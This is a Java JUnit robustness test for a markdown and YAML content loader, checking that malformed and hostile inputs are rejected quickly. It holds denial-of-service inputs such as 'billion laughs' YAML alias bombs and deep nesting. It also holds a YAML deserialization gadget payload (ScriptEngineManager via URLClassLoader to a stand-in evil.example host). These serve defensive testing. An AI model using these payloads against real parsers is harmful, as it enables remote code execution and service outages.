package org.clockwise.content;

import org.clockwise.content.testing.TestLibrary;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.Random;

import static java.time.Duration.ofSeconds;
import static org.clockwise.content.ProblemAssert.assertProblem;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Hostile or broken input ends quickly with a problem, never a hang, a crash or running out of
 * memory. The timeout only catches a hang (a catastrophic pattern runs for minutes): it is generous
 * so a busy machine never fails it; these are correctness tests, not speed tests.
 */
class RobustnessTest {

    private static final String M = "modules/m.md";

    @TempDir
    Path dir;

    private LoadResult loadModule(String body) {
        return assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir).moduleWithBody("m", body).load());
    }

    @Test
    void deeplyNestedQuotes() {
        assertProblem(loadModule(">".repeat(10_000) + " deep\n"), M, 7, "nested more than 32 levels deep");
    }

    @Test
    void deeplyNestedListsOnOneLine() {
        assertProblem(loadModule("- ".repeat(10_000) + "deep\n"), M, 7, "nested more than 32 levels deep");
    }

    @Test
    void deeplyNestedListsByIndentation() {
        StringBuilder lines = new StringBuilder();
        for (int i = 0; i < 900; i++) {
            lines.append("  ".repeat(i)).append("- level ").append(i).append('\n');
        }
        LoadResult result = loadModule(lines.toString());
        assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().contains("nested")), ProblemAssert.all(result));
    }

    @Test
    void deeplyNestedEmphasisAndLinks() {
        LoadResult result = loadModule("*".repeat(10_000) + "x" + "*".repeat(10_000) + "\n\n" + "[".repeat(5_000) + "x"
                + "](y)".repeat(5_000) + "\n");
        assertFalse(result.problems().isEmpty());
    }

    @Test
    void tenThousandBrackets() {
        LoadResult result = loadModule("[".repeat(10_000) + "\n\n" + "]".repeat(10_000) + "\n\n" + "![".repeat(10_000) + "\n");
        assertTrue(result.library().course("m").isPresent(), ProblemAssert.all(result));
    }

    @Test
    void manyLessThanSigns() {
        // commonmark alone is quadratic here: every '<' scanned to the end of the paragraph
        LoadResult result = loadModule("<a ".repeat(150_000) + "\n\n" + "<http:".repeat(80_000) + "\n");
        assertTrue(result.library().course("m").isPresent(), ProblemAssert.all(result));
    }

    @Test
    void aVeryLongParagraph() {
        // commonmark copies a paragraph's lines for every new line: quadratic without the guard
        assertProblem(loadModule("&\n".repeat(200_000)), M, 2007, "more than 2000 lines without a blank line");
    }

    @Test
    void aParagraphOfBrokenLinks() {
        LoadResult result = loadModule("[a](nowhere.md) ".repeat(60_000) + "\n");
        assertProblem(result, M, 7, "link to missing module `nowhere.md`");
        assertProblem(result, M, 1, "more problems in this file are not listed");
        assertTrue(result.problems().size() <= ProblemLog.MAX_PER_FILE + 1);
    }

    @Test
    void aFiveMegabyteFile() {
        byte[] big = (TestLibrary.frontMatter("m") + "word ".repeat(1_000_000)).getBytes(StandardCharsets.UTF_8);
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir).write(M, big).load());
        assertProblem(result, M, 1, "file too large: 4.8 MB, the limit is 1 MB per module");
        assertProblem(loadWithOverride("modules/m.md", new String(big, StandardCharsets.UTF_8)), M, 1, "file too large");
    }

    @Test
    void justUnderTheSizeLimitStillLoads() {
        LoadResult result = loadModule("word ".repeat(200_000) + "\n");
        assertProblem(result, M, 1, "over the snack budget");
    }

    @Test
    void binaryJunk() {
        byte[] junk = new byte[200_000];
        new Random(42).nextBytes(junk);
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir).write(M, junk).load());
        assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().startsWith("not UTF-8")), ProblemAssert.all(result));
    }

    @Test
    void nulBytesInValidUtf8() {
        LoadResult result = loadModule("Text\0with NUL\n");
        assertProblem(result, M, 7, "file contains NUL characters");
    }

    @Test
    void billionLaughsInFrontMatter() {
        StringBuilder yaml = new StringBuilder("---\nid: m\ntitle: T\nsummary: S\nskills: [discovery-questioning]\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'z'; c++) {
            char p = (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*")
                    .append(p).append(",*").append(p).append("]\n");
        }
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60),
                () -> TestLibrary.in(dir).write(M, yaml + "---\nText.\n").load());
        assertProblem(result, M, 2, "too many YAML aliases");
    }

    @Test
    void billionLaughsInTheCatalog() {
        StringBuilder yaml = new StringBuilder("skills:\n  - id: discovery-questioning\n    name: D\nx0: &x0 [a, a, a, a, a, a, a, a, a, a]\n");
        for (int i = 1; i < 30; i++) {
            yaml.append("x").append(i).append(": &x").append(i).append(" [")
                    .append(("*x" + (i - 1) + ", ").repeat(9)).append("*x").append(i - 1).append("]\n");
        }
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60),
                () -> TestLibrary.in(dir).write("catalog.yml", yaml.toString()).module("intro").load());
        assertProblem(result, "catalog.yml", 1, "too many YAML aliases");
    }

    @Test
    void recursiveYamlAlias() {
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                .write(M, "---\nid: m\ntitle: T\nsummary: S\nskills: &s [discovery-questioning, *s]\n---\nText.\n").load());
        assertFalse(result.isClean());
    }

    @Test
    void deeplyNestedYaml() {
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                .write(M, "---\nid: m\ntitle: T\nsummary: S\nskills: " + "[".repeat(5_000) + "]".repeat(5_000) + "\n---\nText.\n")
                .load());
        assertProblem(result, M, 2, "YAML nested too deeply");
    }

    @Test
    void yamlTypeTagsAreNeverInstantiated() {
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                .write(M, "---\nid: m\ntitle: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
                        + "[\"http://evil.example/\"]]]]\nsummary: S\nskills: [discovery-questioning]\n---\nText.\n").load());
        assertTrue(result.problemsIn(M).stream().anyMatch(p -> p.message().contains("unreadable YAML")), ProblemAssert.all(result));
    }

    @Test
    void hugeCatalog() {
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                .write("catalog.yml", "skills:\n" + "  - id: s\n    name: S\n".repeat(60_000)).module("intro").load());
        assertProblem(result, "catalog.yml", 1, "file too large");
    }

    @Test
    void everyKindOfJunkAtOnce() {
        LoadResult result = assertTimeoutPreemptively(ofSeconds(60), () -> TestLibrary.in(dir)
                .write("modules/a.md", ">".repeat(10_000))
                .write("modules/b.md", "[".repeat(10_000))
                .write("modules/c.md", new byte[] {(byte) 0xFF, (byte) 0xFE, 0, 0})
                .write("modules/d.md", "---\n" + "a: &a [1]\n".repeat(1) + "---\n")
                .load());
        assertTrue(result.filesWithProblems() >= 4, ProblemAssert.all(result));
    }

    private LoadResult loadWithOverride(String path, String markdown) {
        return assertTimeoutPreemptively(ofSeconds(60), () -> new LibraryLoader().loadWithOverride(dir, path, markdown));
    }
}
